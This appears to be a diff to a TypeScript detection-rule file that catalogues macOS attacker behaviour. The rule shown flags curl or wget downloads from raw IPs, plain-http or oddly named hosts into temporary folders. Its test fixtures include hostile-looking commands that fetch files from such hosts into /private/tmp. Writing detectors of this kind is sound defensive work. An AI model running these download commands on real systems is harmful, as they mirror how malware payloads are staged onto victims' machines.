@@ -1,6 +1,7 @@
 /** What attackers do on macOS, beside what they do on every POSIX system (`linux.ts`). */
 import { behaviour } from './behaviour.ts';
-import { isFetch, TEMP } from './posix.ts';
+import { isOddHost } from './places.ts';
+import { TEMP } from './posix.ts';
 import { all, any, arg, holds, onProcess, onText, said, type Row } from './row.ts';
 
 export const MACOS: readonly Row[] = [
@@ -392,11 +393,12 @@ export const MACOS: readonly Row[] = [
     benign: ['an installer script'],
     hits: [
       'curl -k -o /private/tmp/update http://203.0.113.9/update',
-      'curl -L0s http://host.example/dl -o /tmp/x.zip',
+      'curl -L0s http://api.mac-host.top/dl -o /private/tmp/x.zip',
     ],
     misses: ['curl -O https://host.example/x.zip'],
-    look: onProcess(['curl', 'wget'], (process) =>
-      isFetch(process)
+    look: onProcess(['curl', 'wget'], (process, { os }) =>
+      os === 'macos' &&
+      process.args.some(({ lower, role }) => role === 'url' && (isOddHost(lower) || lower.startsWith('http://')))
         ? process.args.find(
             ({ lower, role }) =>
               role !== 'url' && (TEMP.test(lower.replace(/^-o/, '')) || lower.startsWith('/users/shared/')),
